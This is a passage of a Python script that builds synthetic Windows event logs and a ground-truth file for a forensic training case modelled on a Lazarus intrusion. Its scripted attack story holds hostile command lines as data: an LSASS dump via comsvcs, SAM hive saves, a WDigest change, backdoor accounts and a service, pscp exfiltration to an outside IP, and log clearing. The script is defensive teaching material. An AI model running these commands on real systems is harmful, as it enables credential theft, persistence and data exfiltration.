    d.net(h, t - dt.timedelta(seconds=6), svc, "tcp", False, VPN_IP, 53321, h.ip, 3389,
          mal("T1021.001", "RDP from external 23.237.32.34"))
    lid = d.logon(h, t, "j.sharma", 10, VPN_IP, 53321,
                  mal("T1078", "RDP logon (type 10) with harvested account j.sharma from 23.237.32.34"),
                  workstation="DESKTOP-5N8QK2L", auth="Negotiate")
    ex = d.explorer(h, "MEDRES\\j.sharma", lid, 2, t)
    # interactive cmd; typed commands (with the report's typo)
    c = d.proc(h, kst(13, 10, 6, 2), "C:\\Windows\\System32\\cmd.exe",
               '"C:\\Windows\\system32\\cmd.exe" ', ex,
               mal("T1059.003", "interactive cmd in the RDP session"), integrity="High",
               cwd="C:\\Users\\j.sharma\\")
    for when, line, exe, tech in [
            (kst(13, 10, 8, 11), "nslookup mrs-fs01.medres.local", "nslookup.exe", "T1018"),
            (kst(13, 10, 9, 30), "ping -n 1 10.20.1.31", "PING.EXE", "T1018"),
            (kst(13, 10, 11, 2), "query session", "query.exe", "T1033")]:
        d.proc(h, when, "C:\\Windows\\System32\\" + exe, line, c,
               mal(tech, "typed in RDP session: " + line))

    # atexec-style remote commands (output to C:\Windows\Temp\XXXXXXXX.tmp)
    steps = [
        (kst(13, 11, 17, 40), "traceroute mrs-fs01.medres.local", "T1016",
         "typo (report: operators typed by hand)"),
        (kst(13, 11, 18, 2), "tracert mrs-fs01.medres.local", "T1016", "route to file server"),
        (kst(13, 11, 20, 5), "net group /domain \"Domain Admins\"", "T1069.002", "domain admins"),
        (kst(13, 11, 21, 40), "netstat -naop tcp", "T1049", "connections"),
        (kst(13, 11, 23, 14), "tasklist", "T1057", "process list"),
        (kst(13, 11, 26, 30), "dir /a \\\\10.20.1.31\\d$\\Research", "T1083", "share listing"),
        (kst(13, 11, 30, 2), "powershell Get-ADComputer -Filter * -Properties ipv4Address, "
                              "OperatingSystem, OperatingSystemServicePack", "T1018", "AD computers"),
    ]
    for when, cmd, tech, note in steps:
        atexec(d, h, when, cmd, tech, "atexec discovery: " + note)

    # WDigest, LSASS, SAM
    p = atexec(d, h, kst(13, 14, 2, 11),
               "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest "
               "/v UseLogonCredential /t REG_DWORD /d 1 /f", "T1112", "enable WDigest")
    r = d.proc(h, kst(13, 14, 2, 11, 60), "C:\\Windows\\System32\\reg.exe",
               "reg  add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest "
               "/v UseLogonCredential /t REG_DWORD /d 1 /f", p, mal("T1112", "reg.exe WDigest"))
    d.reg_set(h, kst(13, 14, 2, 11, 95), r,
              "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
              "DWORD (0x00000001)", mal("T1112", "WDigest UseLogonCredential=1"))
    ps = d.proc(h, kst(13, 14, 5, 40), "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell.exe Get-Process Lsass", d.scheduler(h),
                mal("T1057", "find LSASS pid"), user="NT AUTHORITY\\SYSTEM", integrity="System",
                audit=True)
    del ps
    atexec(d, h, kst(13, 14, 7, 3),
           "c:\\windows\\system32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 680 "
           "C:\\windows\\temp\\mmc.dat full", "T1003.001", "LSASS dump via comsvcs MiniDump",
           audit=True)
    # the report's form of this command has no output redirection
    for when, hive, out in [(kst(13, 14, 12, 30), "sam", "sam.save"),
                            (kst(13, 14, 12, 52), "system", "system.save")]:
        d.proc(h, when, "C:\\Windows\\System32\\cmd.exe",
               "cmd.exe /C reg.exe save hklm\\%s c:\\windows\\temp\\%s" % (hive, out),
               d.scheduler(h), mal("T1003.002", "save %s hive" % hive),
               user="NT AUTHORITY\\SYSTEM", integrity="System", audit=True)
    d.proc(h, kst(13, 14, 16, 8), "C:\\Windows\\Temp\\ras.exe",
           "c:\\windows\\temp\\ras.exe a c:\\windows\\temp\\zmc.dat c:\\windows\\temp\\sam.save "
           "c:\\windows\\temp\\system.save -pwindows", d.scheduler(h),
           mal("T1560.001", "WinRAR archive of hives, password 'windows'"),
           user="NT AUTHORITY\\SYSTEM", integrity="System", audit=True)
    return lid


def story_accounts(d, lid):
    """14 Sep: the "support" account."""
    h = APP02
    for when, cmd, extra in [
            (kst(14, 10, 31, 7), "net user support 1234qWeR@#@# /add", "create"),
            (kst(14, 10, 31, 50), "net localgroup \"Remote Desktop Users\" support /add", "rdp"),
            (kst(14, 10, 32, 26), "net localgroup administrators support /add", "admins"),
            (kst(14, 10, 33, 3), "net localgroup \"Domain admins\" support /add", "fail")]:
        redirect = " > %s 2>&1" % d.tmpname() if extra == "create" else ""
        c = d.proc(h, when, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /C " + cmd + redirect,
                   d.scheduler(h), mal("T1136.001" if extra == "create" else "T1098.007",
                                       "atexec: " + cmd),
                   user="NT AUTHORITY\\SYSTEM", integrity="System", audit=True)
        d.proc(h, when + dt.timedelta(milliseconds=35), "C:\\Windows\\System32\\net.exe",
               cmd, c, mal("T1136.001" if extra == "create" else "T1098.007", "net.exe"))
        at = when + dt.timedelta(milliseconds=140)
        if extra == "create":
            d.user_created(h, at, "support", "SYSTEM", 0x3E7,
                           mal("T1136.001", "local account support created"))
        elif extra == "rdp":
            d.group_add(h, at, "support", "Remote Desktop Users", "S-1-5-32-555", "SYSTEM",
                        0x3E7, mal("T1098.007", "support added to Remote Desktop Users"))
        elif extra == "admins":
            d.group_add(h, at, "support", "Administrators", "S-1-5-32-544", "SYSTEM", 0x3E7,
                        mal("T1098.007", "support added to Administrators"))


def story_grease(d):
    """15 Sep: GREASE2 (ord.dll) through PrintNightmare on MRS-APP02."""
    h = APP02
    sp = d.spooler(h)
    d.file_created(h, kst(15, 9, 47, 12, 300), sp,
                   "C:\\Windows\\System32\\spool\\drivers\\x64\\3\\New\\ord.dll",
                   mal("T1068", "PrintNightmare: GREASE2 ord.dll staged by spoolsv"))
    d.file_created(h, kst(15, 9, 47, 12, 420), sp,
                   "C:\\Windows\\System32\\spool\\drivers\\x64\\3\\New\\mfcbi.dll",
                   mal("T1068", "PrintNightmare: bind shell mfcbi.dll staged by spoolsv"))
    seq = [(kst(15, 9, 47, 20), "net user Guest 1qaz123!@#"),
           (kst(15, 9, 47, 21), "net user Guest /active:yes"),
           (kst(15, 9, 47, 22), "net localgroup administrators Guest /add")]
    for when, cmd in seq:
        c = d.proc(h, when, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c " + cmd, sp,
                   mal("T1078.001", "GREASE2 via spoolsv: " + cmd),
                   user="NT AUTHORITY\\SYSTEM", integrity="System", audit=True)
        d.proc(h, when + dt.timedelta(milliseconds=30), "C:\\Windows\\System32\\net.exe", cmd, c,
               mal("T1078.001", "net.exe from GREASE2"))
    t = seq[0][0] + dt.timedelta(milliseconds=150)
    d.security(h, t, 4724, 13824, [("TargetUserName", "Guest"), ("TargetDomainName", h.short),
                                    ("TargetSid", ("SID", d.user_sid("Guest", h)))] +
               d.subject(h, "SYSTEM", 0x3E7), mal("T1078.001", "Guest password reset"))
    t = seq[1][0] + dt.timedelta(milliseconds=150)
    d.security(h, t, 4722, 13824, [("TargetUserName", "Guest"), ("TargetDomainName", h.short),
                                    ("TargetSid", ("SID", d.user_sid("Guest", h)))] +
               d.subject(h, "SYSTEM", 0x3E7), mal("T1078.001", "Guest account enabled"))
    d.user_changed(h, t + dt.timedelta(milliseconds=10), "Guest", "SYSTEM", 0x3E7, "0x211",
                   "0x210", "\r\n\t\t%%2048", mal("T1078.001", "Guest account changed (enabled)"))
    d.group_add(h, seq[2][0] + dt.timedelta(milliseconds=150), "Guest", "Administrators",
                "S-1-5-32-544", "SYSTEM", 0x3E7, mal("T1098.007", "Guest added to Administrators"))
    # RDP Wrapper
    inst = d.proc(h, kst(15, 9, 48, 5), "C:\\Windows\\Temp\\RDPWInst.exe",
                  "c:\\windows\\temp\\RDPWInst.exe -i -s", sp,
                  mal("T1505.005", "RDP Wrapper installer run by GREASE2"),
                  user="NT AUTHORITY\\SYSTEM", integrity="System", audit=True)
    d.reg_set(h, kst(15, 9, 48, 6, 100), inst,
              "HKLM\\System\\CurrentControlSet\\Services\\TermService\\Parameters\\ServiceDll",
              "C:\\Program Files\\RDP Wrapper\\rdpwrap.dll",
              mal("T1505.005", "TermService ServiceDll -> rdpwrap.dll"))
    d.reg_set(h, kst(15, 9, 48, 6, 180), inst,
              "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections",
              "DWORD (0x00000000)", mal("T1562.004", "fDenyTSConnections=0 (RDP enabled)"))
    fw = d.proc(h, kst(15, 9, 48, 7), "C:\\Windows\\System32\\netsh.exe",
                'netsh advfirewall firewall add rule name="Remote Desktop" dir=in protocol=tcp '
                'localport=3389 profile=any action=allow', inst,
                mal("T1562.004", "firewall opened for RDP"))
    del fw
    d.proc(h, kst(15, 9, 48, 8), "C:\\Windows\\System32\\netsh.exe",
           'netsh advfirewall firewall add rule name="Remote Desktop" dir=in protocol=udp '
           'localport=3389 profile=any action=allow', inst,
           mal("T1562.004", "firewall opened for RDP (udp)"))


def story_service(d):
    """16 Sep: the Acres backdoor as service RegistryCheck."""
    h = APP02
    when = kst(16, 11, 2, 44)
    sc_line = ('sc create RegistryCheck type= own type= interact start= auto error= ignore '
               'binpath= "cmd /K start c:\\windows\\temp\\acres.exe"')
    c = d.proc(h, when, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /C " + sc_line,
               d.scheduler(h), mal("T1543.003", "atexec: create service RegistryCheck"),
               user="NT AUTHORITY\\SYSTEM", integrity="System", audit=True)
    d.proc(h, when + dt.timedelta(milliseconds=25), "C:\\Windows\\System32\\sc.exe", sc_line, c,
           mal("T1543.003", "sc.exe create RegistryCheck"))
    d.scm(h, when + dt.timedelta(milliseconds=90), 7045, [
        ("ServiceName", "RegistryCheck"),
        ("ImagePath", "cmd /K start c:\\windows\\temp\\acres.exe"),
        ("ServiceType", "user mode service"), ("StartType", "auto start"),
        ("AccountName", "LocalSystem")], mal("T1543.003", "service RegistryCheck installed"))
    start = kst(16, 11, 3, 30)
    sc2 = d.proc(h, start, "C:\\Windows\\System32\\cmd.exe",
                 "cmd.exe /C sc start RegistryCheck > %s 2>&1" % d.tmpname(), d.scheduler(h),
                 mal("T1569.002", "atexec: start RegistryCheck"), user="NT AUTHORITY\\SYSTEM",
                 integrity="System")
    del sc2
    svc_cmd = d.proc(h, start + dt.timedelta(milliseconds=400), "C:\\Windows\\System32\\cmd.exe",
                     "cmd /K start c:\\windows\\temp\\acres.exe", d.services(h),
                     mal("T1543.003", "service RegistryCheck runs cmd /K start acres.exe"),
                     user="NT AUTHORITY\\SYSTEM", integrity="System")
    acres = d.proc(h, start + dt.timedelta(milliseconds=520), "C:\\Windows\\Temp\\acres.exe",
                   "c:\\windows\\temp\\acres.exe", svc_cmd,
                   mal(None, "Acres (QuiteRAT) backdoor started"), cwd="C:\\Windows\\system32\\",
                   audit=True)
    d.service_state(h, start + dt.timedelta(milliseconds=900), "RegistryCheck", "running",
                    mal("T1543.003", "RegistryCheck entered the running state"))
    for i, m in enumerate((0, 7, 95)):
        d.net(h, start + dt.timedelta(minutes=m, seconds=4 + i), acres, "tcp", True, h.ip,
              50731 + i * 3, ACRES_C2, 443, mal("T1071.001", "Acres beacon to bare IP 15.207.207.64"))


def story_c2_and_rdp(d):
    """19 Sep: Cobalt Strike-like beacons and RDP as support."""
    h = APP02
    for name, c2, port, start in [("printfs.exe", CS_C2_A, 443, kst(19, 9, 31, 2)),
                                  ("msmptray.exe", CS_C2_B, 80, kst(19, 9, 44, 40))]:
        p = d.proc(h, start, "C:\\Windows\\Temp\\" + name, "c:\\windows\\temp\\" + name,
                   d.scheduler(h), mal("S0154", "Cobalt Strike-like %s started" % name),
                   user="NT AUTHORITY\\SYSTEM", integrity="System", audit=True)
        for i, m in enumerate((0, 5, 9)):
            d.net(h, start + dt.timedelta(minutes=m, seconds=3 + 7 * i), p, "tcp", True, h.ip,
                  51122 + i * 5 + port, c2, port,
                  mal("T1071.001", "beacon from %s to bare IP %s" % (name, c2)))
    # RDP as support
    svc = d.roots[(h.short, "termsvc")]
    t = kst(19, 13, 26, 51)
    d.net(h, t - dt.timedelta(seconds=5), svc, "tcp", False, VPN_IP, 54877, h.ip, 3389,
          mal("T1021.001", "RDP from 23.237.32.34"))
    lid = d.logon(h, t, "support", 10, VPN_IP, 54877,
                  mal("T1021.001", "RDP logon (type 10) as support from 23.237.32.34"),
                  workstation="DESKTOP-5N8QK2L", domain=h.short, auth="NTLM")
    ex = d.explorer(h, h.short + "\\support", lid, 3, t)
    d.proc(h, kst(19, 13, 29, 5), "C:\\Windows\\System32\\taskkill.exe",
           "taskkill /f /im msmptray.exe", ex,
           mal(None, "taskkill of the msmptray.exe beacon (report: process kill)"), audit=True)
    return lid


def story_lateral(d):
    """21-22 Sep: MRS-FS01 and Dtrack."""
    h = FS01
    for when, port in [(kst(21, 10, 14, 9), 50213), (kst(21, 10, 15, 45), 50224)]:
        d.logon(h, when, "adm.kumar", 3, APP02.ip, port,
                mal("T1021.002", "SMB logon from MRS-APP02 with stolen admin credentials"),
                workstation=APP02.short, auth="NTLM")
    a = APP02
    for when, cmd, tech in [
            (kst(21, 10, 14, 8), "net use \\\\10.20.1.31\\d$ /user:MEDRES\\adm.kumar", "T1021.002"),
            (kst(21, 10, 15, 44), "dir /a \\\\10.20.1.31\\d$\\Research\\Trials", "T1039")]:
        atexec(d, a, when, cmd, tech, "atexec: " + cmd.split(" /user")[0])
    # Dtrack on APP02, staging to FS01
    stt = d.proc(a, kst(22, 9, 20, 30), "C:\\Windows\\Temp\\stt.exe", "c:\\windows\\temp\\stt.exe",
                 d.scheduler(a), mal("S0567", "Dtrack variant stt.exe started"),
                 user="NT AUTHORITY\\SYSTEM", integrity="System", audit=True)
    for when, line, tech in [
            (kst(22, 9, 20, 33), "cmd.exe /c systeminfo > %TEMP%\\temp\\info.res & tasklist > "
                                 "%TEMP%\\temp\\task.res & netstat -naop tcp > %TEMP%\\temp\\netstat.res",
             "T1082"),
            (kst(22, 9, 21, 10), "cmd.exe /c ping -n 3 127.0.0.1 >NUL & echo EEEE > "
                                 "%TEMP%\\temp\\~DFE8B1.tmp", "T1119"),
            (kst(22, 9, 21, 41), "cmd.exe /c net use \\\\10.20.1.31\\d$\\Research\\.tmp "
                                 "/user:MEDRES\\adm.kumar", "T1074.002"),
            (kst(22, 9, 21, 55), "cmd.exe /c move /y C:\\Windows\\Temp\\temp\\MRS-APP02_0922.rar "
                                 "\\\\10.20.1.31\\d$\\Research\\.tmp\\", "T1074.002")]:
        c = d.proc(a, when, "C:\\Windows\\System32\\cmd.exe", line, stt,
                   mal(tech, "Dtrack: " + line[12:60]))
        if "systeminfo" in line:
            for k, (exe, sub) in enumerate([("systeminfo.exe", "systeminfo")]):
                d.proc(a, when + dt.timedelta(seconds=2 + 3 * k), "C:\\Windows\\System32\\" + exe,
                       sub, c, mal(tech, "Dtrack collection: " + sub))
        if "ping" in line:
            d.proc(a, when + dt.timedelta(milliseconds=50), "C:\\Windows\\System32\\PING.EXE",
                   "ping  -n 3 127.0.0.1", c, mal("T1119", "Dtrack delay ping"))
    d.net(a, kst(22, 9, 21, 42), d.root(a, "system", "System", "", "NT AUTHORITY\\SYSTEM", pid=4),
          "tcp", True, a.ip, 50998, FS01.ip, 445, mal("T1074.002", "SMB to staging share"),
          dst_name="MRS-FS01.medres.local")


def story_exfil(d):
    """27 Sep: pscp.exe to 104.225.129.103."""
    h = APP02
    when = kst(27, 10, 52, 18)
    line = ("cmd.exe /C echo y | c:\\windows\\temp\\pscp.exe -scp -P 22 -pw Qx7!mR2#kz "
            "\\\\10.20.1.31\\d$\\Research\\.tmp\\trials_2022Q3.rar "
            "backup@104.225.129.103:/home/backup/")
    c = d.proc(h, when, "C:\\Windows\\System32\\cmd.exe", line, d.scheduler(h),
               mal("T1048.002", "exfiltration with pscp over SSH"), user="NT AUTHORITY\\SYSTEM",
               integrity="System", audit=True)
    p = d.proc(h, when + dt.timedelta(milliseconds=80), "C:\\Windows\\Temp\\pscp.exe",
               "c:\\windows\\temp\\pscp.exe -scp -P 22 -pw Qx7!mR2#kz "
               "\\\\10.20.1.31\\d$\\Research\\.tmp\\trials_2022Q3.rar "
               "backup@104.225.129.103:/home/backup/", c,
               mal("T1048.002", "pscp.exe"))
    d.net(h, when + dt.timedelta(seconds=1), p, "tcp", True, h.ip, 55102, CS_C2_B, 22,
          mal("T1048.002", "SSH to bare IP 104.225.129.103"))
    d.net(h, when + dt.timedelta(minutes=41, seconds=7), p, "tcp", True, h.ip, 55340, CS_C2_B, 22,
          mal("T1048.002", "second SSH session to 104.225.129.103"))


def story_cleanup(d, support_lid):
    """29 Sep: clean-up."""
    h = APP02
    atexec(d, h, kst(29, 15, 40, 2), "del /f /q /a c:\\windows\\temp\\*.tmp", "T1070.004",
           "delete atexec output files", audit=True)
    atexec(d, h, kst(29, 15, 40, 40), "net use \\\\10.20.1.31\\d$ /delete", "T1070.004",
           "remove share mapping")
    ex = d.explorer(h, h.short + "\\support", support_lid, 3, kst(29, 15, 0, 0))
    d.proc(h, kst(29, 15, 44, 9), "C:\\Windows\\System32\\wevtutil.exe",
           "wevtutil epl Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational "
           "c:\\windows\\temp\\rcm.evtx", ex, mal("T1654", "export RDP logs"), audit=True)
    d.proc(h, kst(29, 15, 45, 31), "C:\\Windows\\System32\\wevtutil.exe",
           "wevtutil cl Microsoft-Windows-TerminalServices-RemoteConnectionManager/Admin", ex,
           mal("T1070.001", "clear RDP admin log"), audit=True)
    d.log_cleared(h, kst(29, 15, 45, 31, 240), "support", support_lid,
                  "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Admin",
                  mal("T1070.001", "log cleared by support"))


# ----------------------------------------------------------------------------------
# Background noise
# ----------------------------------------------------------------------------------

def ist(day, hh, mm, ss=0):
    d = day if isinstance(day, dt.date) else dt.date(2022, 9, day)
    return dt.datetime(d.year, d.month, d.day, hh, mm, ss, tzinfo=IST).astimezone(UTC)


def background(d):
    """Normal activity, 29 Aug - 30 Sep, victim office hours (UTC+5:30)."""
    rng = d.rng
    days = [dt.date(2022, 8, 29) + dt.timedelta(days=i) for i in range(33)]
    weekdays = [x for x in days if x.weekday() < 5]
    users = ["a.verma", "r.iyer", "p.nair", "s.gupta", "k.rao"]
    # logons to the file server and app server (type 3), a few interactive admin logons
    for day in weekdays:
        for user in rng.sample(users, 1 if day.weekday() % 2 == 0 else 0):
            host = rng.choice((FS01, APP02, FS01))
            ws, ip = WORKSTATIONS[user]
            d.logon(host, ist(day, rng.randrange(9, 18), rng.randrange(60), rng.randrange(60)),
                    user, 3, ip, rng.randrange(49700, 65000),
                    benign("%s maps a share from %s" % (user, ws)), workstation=ws,
                    auth=rng.choice(("Kerberos", "Kerberos", "NTLM")), elevated=False)
    for day in weekdays[::6]:
        when = ist(day, rng.randrange(10, 17), rng.randrange(60))
        host = rng.choice(HOSTS)
        lid = d.logon(host, when, "adm.kumar", 10, "10.20.0.5", rng.randrange(49700, 65000),
                      benign("admin RDP from the jump host"), workstation="MRS-JUMP01",
                      auth="Kerberos")
        ex = d.explorer(host, "MEDRES\\adm.kumar", lid, 2, when)
        d.proc(host, when + dt.timedelta(minutes=2), "C:\\Windows\\System32\\mmc.exe",
               '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\services.msc" ', ex,
               benign("admin opens services.msc"), audit=(host is APP02))
    # backup job every weekday night on the file server (svc_backup, type 5 service logon)
    for day in weekdays[::4]:
        when = ist(day, 22, 30, rng.randrange(60))
        d.logon(FS01, when, "svc_backup", 5, "-", 0, benign("backup service logon"),
                auth="Negotiate", elevated=False)
        d.proc(FS01, when + dt.timedelta(seconds=20), "C:\\Windows\\System32\\Robocopy.exe",
               "robocopy D:\\Research \\\\MRS-NAS01\\backup\\Research /MIR /R:1 /W:1 /NP /LOG:C:\\Logs\\rc.log",
               d.scheduler(FS01), benign("nightly robocopy backup"), user="MEDRES\\svc_backup",
               integrity="High")
    # scheduled Defender scans and updates
    for day in weekdays[1::5]:
        host = rng.choice(HOSTS)
        when = ist(day, 12, rng.randrange(60))
        d.proc(host, when, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2207.7-0\\MpCmdRun.exe",
               '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2207.7-0\\MpCmdRun.exe" '
               "-SignatureUpdate -MMPC", d.scheduler(host), benign("Defender signature update"),
               user="NT AUTHORITY\\SYSTEM", integrity="System", audit=(host is APP02))
        d.net(host, when + dt.timedelta(seconds=3), d.roots[(host.short, "schedule")], "tcp", True,
              host.ip, rng.randrange(50000, 60000), "13.107.4.52", 80, benign("Windows Update CDN"),
              dst_name="download.windowsupdate.com")
    # the portal's normal traffic and its database
    for day in weekdays[::4]:
        tc = d.tomcat(WEB01)
        when = ist(day, rng.randrange(9, 18), rng.randrange(60))
        ws_user = rng.choice(users)
        d.net(WEB01, when, tc, "tcp", False, WORKSTATIONS[ws_user][1], rng.randrange(49700, 65000),
              WEB01.ip, 8443, benign("portal used by " + ws_user),
              src_name=WORKSTATIONS[ws_user][0] + ".medres.local")
        d.net(WEB01, when + dt.timedelta(milliseconds=40), tc, "tcp", True, WEB01.ip,
              rng.randrange(50000, 60000), APP02.ip, 1433, benign("portal queries its database"),
              dst_name="MRS-APP02.medres.local")
    for day in weekdays[::8]:
        when = ist(day, 3, 15)
        tc = d.tomcat(WEB01)
        d.file_created(WEB01, when, tc, TOMCAT + "\\logs\\localhost_access_log.%s.txt" % day.isoformat(),
                       benign("Tomcat access log rotated"))
    # application server: SQL service restarts and Windows Update
    for day in (dt.date(2022, 9, 1), dt.date(2022, 9, 8), dt.date(2022, 9, 15), dt.date(2022, 9, 29)):
        when = ist(day, 19, 5, rng.randrange(60))
        host = rng.choice(HOSTS)
        d.service_state(host, when, "Windows Modules Installer", "running",
                        benign("servicing stack runs"))
        d.proc(host, when + dt.timedelta(seconds=9), "C:\\Windows\\System32\\wuauclt.exe",
               '"C:\\Windows\\system32\\wuauclt.exe" /RunHandlerComServer', d.services(host),
               benign("Windows Update handler"), user="NT AUTHORITY\\SYSTEM", integrity="System",
               audit=(host is APP02))
    d.scm(APP02, ist(dt.date(2022, 8, 30), 16, 42, 7), 7045, [
        ("ServiceName", "Veeam Agent for Microsoft Windows"),
        ("ImagePath", '"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe"'),
        ("ServiceType", "user mode service"), ("StartType", "auto start"),
        ("AccountName", "LocalSystem")], benign("backup agent installed by IT"))
    d.scm(APP02, ist(dt.date(2022, 8, 30), 16, 42, 40), 7040, [
        ("param1", "Background Intelligent Transfer Service"), ("param2", "auto start"),
        ("param3", "demand start"), ("param4", "BITS")], benign("BITS start type changed"))
    # users' desktop noise on the RDP host (the portal team works on MRS-APP02)
    for day in weekdays[::6]:
        when = ist(day, 11, rng.randrange(60))
        lid = d.logon(APP02, when, "p.nair", 10, WORKSTATIONS["p.nair"][1], rng.randrange(49700, 65000),
                      benign("p.nair RDP to the application server"), workstation="MRS-WS031",
                      auth="Kerberos", elevated=False)
        ex = d.explorer(APP02, "MEDRES\\p.nair", lid, 4, when)
        ex.integrity = "Medium"
        chrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
        d.proc(APP02, when + dt.timedelta(minutes=1), chrome,
               '"%s" https://portal.medres.local/' % chrome,
               ex, benign("browser"), cwd="C:\\Users\\p.nair\\", audit=True)
        d.proc(APP02, when + dt.timedelta(minutes=7), "C:\\Windows\\System32\\notepad.exe",
               '"C:\\Windows\\system32\\NOTEPAD.EXE" D:\\Portal\\config\\app.properties', ex,
               benign("edit portal config"), cwd="C:\\Users\\p.nair\\", audit=True)


# ----------------------------------------------------------------------------------

FIRST_RECORD_ID = {"Security": 283114, "Sysmon": 1048203, "System": 41522}


def build():
    d = Demo()
    background(d)
    story_webshell(d)
    lid = story_foothold(d)
    story_accounts(d, lid)
    story_grease(d)
    story_service(d)
    support_lid = story_c2_and_rdp(d)
    story_lateral(d)
    story_exfil(d)
    story_cleanup(d, support_lid)
    return d


def write(outdir):
    d = build()
    os.makedirs(outdir, exist_ok=True)
    truth = []
    counts = {}
    for log in ("Security", "Sysmon", "System"):
        w = EvtxWriter(first_record_id=FIRST_RECORD_ID[log])
        events = sorted((e for e in d.events if e[2] == log), key=lambda e: (e[0], e[1]))
        for when, _seq, _log, kw, tr in events:
            rid = w.add_event(**kw)
            truth.append(dict(file=log + ".evtx", record_id=rid, computer=kw["computer"],
                              time=when.strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
                              event_id=kw["event_id"], **tr))
        w.write(os.path.join(outdir, log + ".evtx"))
        counts[log + ".evtx"] = w.record_count
    # the ground truth sits beside the case, not in it: it is not evidence
    with open(outdir.rstrip("/") + ".truth.json", "w", encoding="ascii") as fh:
        fh.write('{\n  "case": "MEDRES / Lazarus No Pineapple! demo",\n')
        fh.write('  "counts": %s,\n' % json.dumps(counts))
        fh.write('  "records": [\n')
        fh.write(",\n".join("    " + json.dumps(t) for t in truth))
        fh.write("\n  ]\n}\n")
    return counts


def main(argv):
    if len(argv) != 2:
        sys.stderr.write("usage: make_demo.py OUTDIR\n")
        return 2
    counts = write(argv[1])
    total = sum(counts.values())
    sys.stdout.write("wrote %s (%d events)\n" % (", ".join("%s: %d" % kv for kv in counts.items()),
                                                  total))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
